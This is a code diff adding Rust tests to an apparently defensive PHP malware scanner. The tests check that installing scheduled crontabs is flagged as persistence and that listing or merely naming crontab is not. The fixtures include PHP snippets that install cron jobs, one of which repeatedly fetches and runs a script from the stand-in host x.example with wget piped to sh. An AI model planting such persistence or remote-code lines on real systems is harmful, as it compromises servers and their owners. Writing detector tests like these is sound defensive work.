@@ -76,6 +76,31 @@ fn a_program_made_executable_and_started_is_a_dropper() {
 }
 
 #[test]
+fn a_crontab_installed_from_php_with_a_schedule_is_persistence() {
+    // A bot's helper: a line re-running its launcher every minute, written and installed.
+    let helper = "<?php file_put_contents(getcwd().'/c.txt', '* * * * * /usr/bin/php '.getcwd().'/l.php'.PHP_EOL);\n\
+                  echo exec('crontab '.getcwd().'/c.txt');";
+    assert_eq!(found(helper), [Why::InstallsCronJob]);
+    let piped = "<?php $j = \"*/5 * * * * wget -q -O- http://x.example/u | sh\";\n\
+                 shell_exec(\"(crontab -l; echo '$j') | crontab -\");";
+    assert_eq!(found(piped), [Why::InstallsCronJob]);
+    let backtick = "<?php $c = '0 */2 * * * php ~/.x.php'; `echo \"$c\" > /tmp/c; crontab /tmp/c`;";
+    assert_eq!(found(backtick), [Why::InstallsCronJob]);
+}
+
+#[test]
+fn a_crontab_listed_or_named_in_a_message_is_not_persistence() {
+    // Listing the jobs (a server-information page), with a schedule shown as help.
+    let listing = "<?php echo '0 3 * * * php cron.php'; echo shell_exec('crontab -l');";
+    assert!(found(listing).is_empty());
+    // A scheduler's set-up message naming the command, not running it.
+    let message = "<?php $io->note('Add this line with crontab -e: * * * * * php bin/grav scheduler');";
+    assert!(found(message).is_empty());
+    // Installed with no schedule in the file (a panel installing what its user wrote).
+    assert!(found("<?php exec('crontab ' . escapeshellarg($file));").is_empty());
+}
+
+#[test]
 fn an_application_calling_a_system_program_is_not_a_dropper() {
     assert!(found("<?php exec('/usr/bin/convert ' . escapeshellarg($f) . ' out.png');").is_empty());
     // Made readable only, and run in the foreground.
